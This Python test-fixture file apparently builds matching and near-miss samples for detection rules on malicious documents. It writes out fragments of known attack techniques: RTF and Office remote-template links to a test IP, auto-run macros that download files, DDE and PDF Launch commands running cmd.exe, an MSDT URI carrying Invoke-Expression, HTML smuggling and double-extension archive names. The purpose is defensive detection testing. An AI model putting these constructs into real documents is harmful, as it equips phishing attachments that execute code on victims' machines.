"""Samples for rules/document: beginnings of documents with one telling part each."""

import base64
import struct

from tests.rules.formats import cut, noise, office, page, pe, shortcut, wide
from tests.rules.sample import Sample

STORE = bytes.fromhex("e716e3bd 65261145 a4c48d4d 0b7a9eac")
ONENOTE = bytes.fromhex("e4525c7b 8cd8a74d aeb15378 d02996d3")


def rtf(*parts: str, start: str = "{\\rtf1\\ansi ") -> bytes:
    """An RTF file around the parts."""
    return cut(start) + b"".join(cut(part) for part in parts) + b"}"


def onenote(data: bytes) -> bytes:
    """A OneNote section with one attached file."""
    head = STORE + struct.pack("<QIQ", len(data), 0, 0)
    return ONENOTE + noise(1024) + head + data + noise(64)


def image(*files: bytes) -> bytes:
    """An ISO 9660 image: the volume descriptor, then each file at a sector of its own."""
    sectors = b"\x01CD001\x01".rjust(0x8001 + 6, b"\0").ljust(0x9000, b"\0")
    return sectors + b"".join(data.ljust(4096, b"\0") for data in files)


def archive(name: str) -> bytes:
    """A zip archive with one empty entry."""
    raw = cut(name)
    head = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 0, 0, 0, 0, len(raw), 0)
    return head + raw + noise(32)


def relation(kind: str, target: str) -> bytes:
    """A relationship part of an Office document, unpacked."""
    schemas = "http://schemas.openxmlformats.org"
    return cut(
        f'<Relationships xmlns="{schemas}/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{schemas}/officeDocument/2006/{kind}" '
        f'Target="{target}" TargetMode="Exter¦nal"/></Relationships>'
    )


def lbl(name: int) -> bytes:
    """A hidden built-in name of an old Excel workbook that refers to a sheet (MS-XLS 2.4.150)."""
    return struct.pack("<HHHBBHHHI", 0x18, 0x17, 0x21, 0, 1, 7, 0, 1, 0) + bytes((0, name, 0x3A))


HTML_PAYLOAD = base64.b64encode(b"PK\x03\x04\x14\0" + noise(64)).decode()
SMUGGLE = (
    "<script>var b = new Bl¦ob([Uint8Array.from(at¦ob('{}'), c => c.charCodeAt(0))]);"
    "a.href = URL.createObject¦URL(b); a.download = 'a.zip'; a.cl¦ick();</script>"
)
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg"><scr¦ipt>{} = at¦ob("aHR0cHM6Ly9hLnRlc3Q=");'
    "</script></svg>"
)
HELP = (
    '<object id="x" classid="clsid:adb880a6-d8ff-11cf¦-9377-00aa003b7a11" width="1" height="1">'
    '<param name="Command" value="Short¦Cut"><param name="Item1" value=",{},/c calc.exe">'
    "</object><script>x.Cl¦ick();</script>"
)
SEARCH = "sear¦ch-ms:query=invoice&crumb=loca¦tion:{}&displayname=Downloads"
EQUATION = "{\\object\\objemb{}{\\*\\obj¦data 0105000002000000 45717561¦74696f6e2e33 00}}"
MONIKER = "{\\object\\objautli¦nk{\\*\\obj¦data 01050000 {} }}"
PACKAGE = "{\\object\\objemb{\\*\\obj¦data 0105 5061636b6¦1676500 433a5c61{}}}"
MSDT = (
    '<script>location.href = "ms-ms¦dt:/id PCWDiag¦nostic /skip force /param '
    '\\"IT_Rebrowse¦ForFile=? {}\\"";</script>'
)
FIELD = '<w:instr¦Text>DDEAU¦TO {} "/c calc.exe"</w:instr¦Text>'
LAUNCH = "%PD¦F-1.4\n1 0 obj << /S /Lau¦nch /F ({}) >> endobj\n"
ATTACH = (
    "%PD¦F-1.7\n1 0 obj << /Embed¦dedFile 2 0 R >> endobj\n"
    "this.exportData¦Object({{ cName: 'a', nLaunch: {} }});\n"
)
SCRIPTED = "%PD¦F-1.6\n<< /Open¦Action 3 0 R >> << /S /Java¦Script /JS ({}) >>\n"
VBA = (wide("_VBA¦_PROJECT"), cut("Auto¦Open"), cut("WScript.¦Shell"), cut("MSXML2.¦XMLHTTP"))

SAMPLES: tuple[Sample, ...] = (
    Sample(
        "Document_Rtf_EquationExploit",
        matching=(
            rtf(EQUATION.replace("{}", "\\obj¦update")),
            rtf(EQUATION.replace("{}", ""), start="{\\rt¦x "),
        ),
        near_miss=(rtf(EQUATION.replace("{}", "")),),
        filename="sample.doc",
    ),
    Sample(
        "Document_Rtf_UrlMoniker",
        matching=(rtf(MONIKER.replace("{}", "e0c9ea79f9bace11¦8c8200aa004ba90b")),),
        near_miss=(rtf(MONIKER.replace("{}", "0303000000000000c000000000000046")),),  # a file
        filename="sample.doc",
    ),
    Sample(
        "Document_Rtf_RemoteTemplate",
        matching=(
            rtf("{\\*\\temp¦late http¦s://198.51.100.7/a}"),
            rtf("{\\*\\temp¦late \\u-65432?\\u-65420?}"),
        ),
        near_miss=(rtf("{\\*\\temp¦late C:\\\\Templates\\\\letter.dot}"),),
        filename="sample.rtf",
    ),
    Sample(
        "Document_Rtf_EmbeddedProgram",
        matching=(
            rtf(PACKAGE.replace("{}", "2e6578¦6500")),
            rtf(PACKAGE.replace("{}", "2e6a73¦00")),
        ),
        near_miss=(rtf(PACKAGE.replace("{}", "2e70646600")),),  # .pdf
        filename="sample.rtf",
    ),
    Sample(
        "Document_Ole_AutoRunMacro",
        matching=(office(*VBA),),
        near_miss=(office(*VBA[:-1]), office(VBA[0], cut("Button_¦Click"), *VBA[2:])),
        filename="sample.doc",
    ),
    Sample(
        "Document_Excel_Macro4AutoOpen",
        matching=(office(lbl(1), cut("URLDownload¦ToFileA")),),
        near_miss=(office(lbl(6), cut("URLDownload¦ToFileA")), office(lbl(1))),  # 6: print area
        filename="sample.xls",
    ),
    Sample(
        "Document_Ooxml_RemoteTemplate",
        matching=(relation("relation¦ships/attached¦Template", "https://198.51.100.7/a.dotm"),),
        near_miss=(
            relation("relation¦ships/attached¦Template", "file:///C:/Templates/a.dotx"),
            relation("relation¦ships/attached¦Template", "https://firm.sharepoint.com/a.dotx"),
        ),
        filename="settings.xml.rels",
    ),
    Sample(
        "Document_Ooxml_RemoteObject",
        matching=(
            relation(
                "relation¦ships/oleO¦bject", "mht¦ml:http://198.51.100.7/a!x-usc:http://a.test/a"
            ),
            relation("relation¦ships/oleO¦bject", "https://198.51.100.7/a.html¦!"),
        ),
        near_miss=(
            relation("relation¦ships/oleO¦bject", "file:///C:/a.xlsx!Sheet1"),
            relation("relation¦ships/hyperlink", "https://198.51.100.7/a.html"),
        ),
        filename="document.xml.rels",
    ),
    Sample(
        "Document_Html_DiagnosticTool",
        matching=(page(MSDT.replace("{}", "$(Invoke-¦Expression 1)")),),
        near_miss=(page(MSDT.replace("{}", "C:/report")),),
        filename="sample.html",
    ),
    Sample(
        "Document_Office_DdeCommand",
        matching=(cut(FIELD.replace("{}", "c:\\\\windows\\\\system32\\\\cm¦d.exe")),),
        near_miss=(cut(FIELD.replace("{}", "excel.exe")),),
        filename="document.xml",
    ),
    Sample(
        "Document_Office_DdeCommand",
        matching=(cut("name,price\n=cm¦d|' /C calc'!A0,1\n"),),
        near_miss=(cut("name,price\n=SUM('Sheet'!A0),1\n"), cut("name,price\ncm¦d|more,1\n")),
        filename="sample.csv",
    ),
    Sample(
        "Document_Excel_AddInDownloader",
        matching=(pe(cut("xlAuto¦Open"), cut("URLDownload¦ToFileW")),),
        near_miss=(pe(cut("xlAuto¦Open")), pe(cut("URLDownload¦ToFileW"))),
        filename="sample.xll",
    ),
    Sample(
        "Document_Pdf_LaunchCommand",
        matching=(cut(LAUNCH.format("cm¦d.exe")),),
        near_miss=(cut(LAUNCH.format("manual.pdf")),),
        filename="sample.pdf",
    ),
    Sample(
        "Document_Pdf_AttachmentLaunch",
        matching=(cut(ATTACH.format(2)),),
        near_miss=(cut(ATTACH.format(0)),),
        filename="sample.pdf",
    ),
    Sample(
        "Document_Pdf_ObfuscatedScript",
        matching=(
            cut(SCRIPTED.format("ev¦al(this.info.title)")),
            cut(SCRIPTED.format('un¦escape("%u9090%u9090")')),
        ),
        near_miss=(cut(SCRIPTED.format("app.alert(this.info.title)")),),
        filename="sample.pdf",
    ),
    Sample(
        "Document_OneNote_EmbeddedScript",
        matching=(
            onenote(cut("<hta:app¦lication><scr¦ipt>")),
            onenote(cut("@ec¦ho off\r\n")),
            onenote(shortcut()),
            onenote(pe()),
        ),
        near_miss=(
            onenote(b"\x89PNG\r\n"),
            ONENOTE + noise(64) + cut("@ec¦ho off"),  # said in a note, not attached
        ),
        filename="sample.one",
    ),
    Sample(
        "Document_Html_Smuggling",
        matching=(page(SMUGGLE.format(HTML_PAYLOAD)),),
        near_miss=(page(SMUGGLE.format(base64.b64encode(b"\x89PNG\r\n" + noise(64)).decode())),),
        filename="sample.html",
    ),
    Sample(
        "Document_Svg_ScriptDropper",
        matching=(cut(SVG.format("window.loca¦tion")), cut(SVG.format("loca¦tion.href"))),
        near_miss=(cut(SVG.format("var text")),),
        filename="sample.svg",
    ),
    Sample(
        "Document_Help_ShortcutCommand",
        matching=(page(HELP.format("cm¦d.exe")),),
        near_miss=(page(HELP.format("calc.exe")),),
        filename="sample.htm",
    ),
    Sample(
        "Document_Search_RemoteFolder",
        matching=(
            page('<a href="', SEARCH.format("\\\\198.51.100.7\\share"), '">'),
            page('<a href="', SEARCH.format("%5C%5C198.51.100.7%5Cshare"), '">'),
        ),
        near_miss=(page('<a href="', SEARCH.format("C:\\Users"), '">'),),
        filename="sample.html",
    ),
    Sample(
        "Document_Iso_Shortcut",
        matching=(image(noise(64), shortcut(wide("C:\\Windows\\System32\\run¦dll32.exe"))),),
        near_miss=(
            image(noise(64), shortcut(wide("C:\\Tools\\setup.exe"))),
            image(noise(64), wide("run¦dll32.exe")),
        ),
        filename="sample.iso",
    ),
    Sample(
        "Document_Zip_DoubleExtension",
        matching=(archive("invoice.pd¦f.js"), archive("photos/a.jp¦g      .exe")),
        near_miss=(archive("invoice.pd¦f.json"), archive("scripts/pdf.js")),
        filename="sample.zip",
    ),
)
